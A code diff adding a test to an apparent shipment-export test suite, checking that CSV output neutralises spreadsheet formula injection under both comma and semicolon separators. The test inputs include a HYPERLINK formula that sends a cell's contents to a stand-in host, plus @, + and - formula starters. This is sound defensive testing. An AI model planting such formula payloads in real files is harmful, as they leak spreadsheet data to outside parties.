@@ -360,4 +360,27 @@ describe('shipment export', () => {
     expect(rows.length).toBe(1 + 1000); // BULK-7 only (there is no BULK-70)
     expect((await api.get('/reports/summary?groupBy=category')).status).toBe(200);
   });
+
+  it('holds no formula in any locale: read with `;` and `,` as separator, no cell or cell line starts one', async () => {
+    const hostile = ['Boxes;=HYPERLINK("https://x.example/?"&A2,"x")', 'Boxes\t@SUM(A1)', 'Line one\n+1', 'Kits,-2+3'];
+    const created = await api.post(
+      '/shipments',
+      seedShipmentBody(azerbaijan.id, ukraine.id, {
+        emergency: `Locale ${unique()}`,
+        title: 'Relief;=1+1',
+        items: hostile.map((description) => ({ description, category: 'ppe', quantity: '1', unit: 'box' })),
+      }),
+    );
+    expect(created.status).toBe(201);
+    const response = await api.get(`/shipments/export?q=${created.body.reference}`);
+    expect(response.status).toBe(200);
+    for (const delimiter of [',', ';']) {
+      const cells = (parse(response.text, { delimiter, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
+      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
+      for (const cell of cells) for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    // Read as its own `,` file, the text comes back as written once the import's inverse is applied.
+    const descriptions = records(parse(response.text) as string[][]).map((r) => r.description);
+    expect(descriptions).toEqual(["Boxes;'=HYPERLINK(\"https://x.example/?\"&A2,\"x\")", "Boxes\t'@SUM(A1)", "Line one\n'+1", "Kits,'-2+3"]);
+  });
 });
